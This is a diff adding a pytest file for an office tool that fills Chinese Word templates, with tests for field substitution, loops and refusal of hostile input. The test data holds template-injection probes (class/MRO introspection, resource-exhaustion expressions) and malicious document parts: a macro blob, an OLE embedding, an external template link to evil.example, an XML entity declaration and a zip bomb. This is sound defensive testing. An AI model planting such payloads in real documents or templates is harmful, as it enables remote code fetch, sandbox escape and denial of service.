@@ -1,0 +1,141 @@
+"""The office's own Word templates: filled with a record, told what is wrong with them, and never let do anything."""
+
+from __future__ import annotations
+
+import datetime as dt
+import re
+from pathlib import Path
+from zipfile import ZIP_DEFLATED, ZipFile
+
+import pytest
+from docx import Document
+
+from app.core.errors import InvalidValueError
+from app.forms.form_records import FormRecord
+from app.forms.template_file import WordTemplate, find_templates, template_folders
+from app.forms.template_sample import write_sample_template
+from app.forms.word_template import fill_template, template_words
+from app.ledgers.declaration import Ledger
+from app.ledgers.problem import PROBLEM
+from app.ledgers.registry import LEDGERS
+
+TODAY = dt.date(2023, 11, 20)
+
+
+def record(ledger: Ledger = PROBLEM, **values: object) -> FormRecord:
+    own = {spec.name: spec.kind.empty for spec in ledger.fields.values()} | values
+    children = {child.key: [{name: spec.kind.empty for name, spec in child.specs.items()}] for child in ledger.children}
+    return FormRecord(own, children)
+
+
+def template(folder: Path, *paragraphs: str) -> WordTemplate:
+    document = Document()
+    for text in paragraphs:
+        document.add_paragraph(text)
+    document.save(folder / "表样.docx")
+    return WordTemplate(folder / "表样.docx")
+
+
+def text_of(path: Path) -> str:
+    return re.sub(r"<[^>]+>", "", ZipFile(path).read("word/document.xml").decode())
+
+
+def filled(folder: Path, *paragraphs: str, **values: object) -> str:
+    found = record(**values)
+    fill_template(template(folder, *paragraphs), template_words(PROBLEM, found, "市政协机关党委", TODAY), folder / "填好.docx")
+    return text_of(folder / "填好.docx")
+
+
+def test_fields_are_named_by_their_labels(tmp_path: Path) -> None:
+    marks = "{{问题表述}}｜{{整改时限日期}}｜{{填报单位}}｜{{打印日期}}"
+    text = filled(tmp_path, marks, statement="学用<脱节> & 不够", deadline_date="2023-11-30")
+    assert "学用&lt;脱节&gt; &amp; 不够｜2023年11月30日｜市政协机关党委｜2023年11月20日" in text
+
+
+def test_entries_are_looped_over(tmp_path: Path) -> None:
+    found = record(progress="最新")
+    found.children["progress"][:] = [{"day": "2023-11-01", "content": "甲"}, {"day": "2023-10-01", "content": "乙"}]  # type: ignore[index]
+    words = template_words(PROBLEM, found, "", TODAY)
+    fill_template(
+        template(tmp_path, "{% for 行 in 进展 %}{{行.日期}}{{行.进展情况}}；{% endfor %}{{进展}}"), words, tmp_path / "x.docx"
+    )
+    assert "2023年11月1日甲；2023年10月1日乙；最新" in text_of(tmp_path / "x.docx")
+
+
+@pytest.mark.parametrize("ledger", LEDGERS, ids=lambda ledger: ledger.key)
+def test_the_sample_of_every_ledger_can_be_filled(ledger: Ledger, tmp_path: Path) -> None:
+    write_sample_template(ledger, tmp_path / "示例.docx")
+    fill_template(
+        WordTemplate(tmp_path / "示例.docx"), template_words(ledger, record(ledger), "单位", TODAY), tmp_path / "填好.docx"
+    )
+    text = text_of(tmp_path / "填好.docx")
+    assert "{{" not in text
+    assert "{%" not in text
+    assert all(spec.label in text for spec in ledger.fields.values())
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("{{问题表述", "写法有误"),
+        ("{% for 行 in 进展 %}{{行.日期}}", "写法有误"),
+        ("{{没有的字段}}", "没有的字段“没有的字段”"),
+        ("{% for 行 in 进展 %}{{行.颜色}}{% endfor %}", "没有的字段“颜色”"),
+        ("{{ 问题表述.__class__.__mro__ }}", "不允许|没有的字段"),
+        ("{{ 'a' * 1000000000 }}", "不允许"),
+        ("{{ 9 ** 999999 }}", "不允许"),
+        ("{{ 进展.append(1) }}", "不允许"),
+        ("{{ 1 // 0 }}", "算不出来"),
+    ],
+)
+def test_mistakes_and_tricks_are_told_in_chinese(tmp_path: Path, text: str, message: str) -> None:
+    with pytest.raises(InvalidValueError, match=message):
+        filled(tmp_path, text)
+    assert not (tmp_path / "填好.docx").exists()
+
+
+def with_part(folder: Path, name: str, content: bytes) -> WordTemplate:
+    found = template(folder, "{{问题表述}}")
+    with ZipFile(found.path, "a", ZIP_DEFLATED) as package:
+        package.writestr(name, content)
+    return found
+
+
+LINK = (
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
+    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+    b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
+)
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "message"),
+    [
+        ("word/vbaProject.bin", b"x", "宏"),
+        ("word/embeddings/oleObject1.bin", b"x", "嵌入"),
+        ("word/_rels/settings.xml.rels", LINK, "外部链接"),
+        ("word/extra.xml", b"<!DOCTYPE x [<!ENTITY a 'b'>]><x/>", "有害"),
+        ("word/bomb.xml", b"0" * 310_000_000, "有害"),
+    ],
+)
+def test_live_content_is_refused(tmp_path: Path, name: str, content: bytes, message: str) -> None:
+    with pytest.raises(InvalidValueError, match=message):
+        fill_template(with_part(tmp_path, name, content), {}, tmp_path / "x.docx")
+
+
+def test_what_is_no_word_document_is_refused(tmp_path: Path) -> None:
+    for name, content in (("a.docm", b"PK"), ("b.docx", b"not a zip"), ("c.doc", b"\xd0\xcf")):
+        (tmp_path / name).write_bytes(content)
+        with pytest.raises(InvalidValueError):
+            fill_template(WordTemplate(tmp_path / name), {}, tmp_path / "x.docx")
+
+
+def test_templates_of_the_office_come_before_those_of_this_pc(tmp_path: Path) -> None:
+    shared, local = template_folders(tmp_path / "共享", tmp_path / "本机", PROBLEM)
+    for folder in (shared, local):
+        folder.mkdir(parents=True)
+        template(folder, "x")
+    (local / "~$锁.docx").write_bytes(b"")
+    template(local, "y").path.rename(local / "另一个.docx")
+    assert [found.path for found in find_templates((shared, local))] == [shared / "表样.docx", local / "另一个.docx"]
+    assert find_templates((tmp_path / "没有",)) == ()
